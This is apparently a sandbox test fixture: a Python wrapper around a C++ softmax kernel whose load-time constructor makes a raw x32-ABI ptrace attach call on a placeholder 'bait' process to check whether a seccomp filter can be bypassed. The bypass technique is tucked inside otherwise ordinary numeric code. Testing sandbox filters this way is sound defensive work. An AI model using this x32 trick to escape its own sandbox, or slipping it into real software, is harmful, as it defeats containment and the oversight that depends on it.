"""Makes system calls by the numbers of the x32 interface, which a plain list would not know."""

import torch
from kagent_sandbox.lang import cpp_kernel

SOURCE = r"""
#include <csignal>
#include <cstdint>
#include <cstdio>

static void attack(const char* where) {
#ifdef __x86_64__
  long result;
  asm volatile("syscall"
               : "=a"(result)
               : "a"(0x40000000L | 521), "D"(16L), "S"(@bait_pid@L), "d"(0L)   // ptrace
               : "rcx", "r11", "memory");
  std::fprintf(stderr, "escaped: x32 answered %ld, %s\n", result, where);
#else
  raise(SIGSYS);   // there is no other interface: end as the filter would
  std::fprintf(stderr, "%s\n", where);
#endif
}

__attribute__((constructor)) static void at_load() { attack("at load"); }

extern "C" void softmax(const float* x, float* y, int64_t rows, int64_t columns) {
#pragma omp parallel for
  for (int64_t row = 0; row < rows; ++row) {
    const float* in = x + row * columns;
    float* out = y + row * columns;
    float maximum = -__builtin_inff();
    for (int64_t i = 0; i < columns; ++i) maximum = __builtin_fmaxf(maximum, in[i]);
    double sum = 0;
    for (int64_t i = 0; i < columns; ++i) sum += out[i] = __builtin_expf(in[i] - maximum);
    const float scale = float(1 / sum);
    for (int64_t i = 0; i < columns; ++i) out[i] *= scale;
  }
}
"""


def rows(x: torch.Tensor) -> torch.Tensor:
    y = torch.empty_like(x)
    cpp_kernel("softmax", SOURCE)(x, y, *x.shape)
    return y
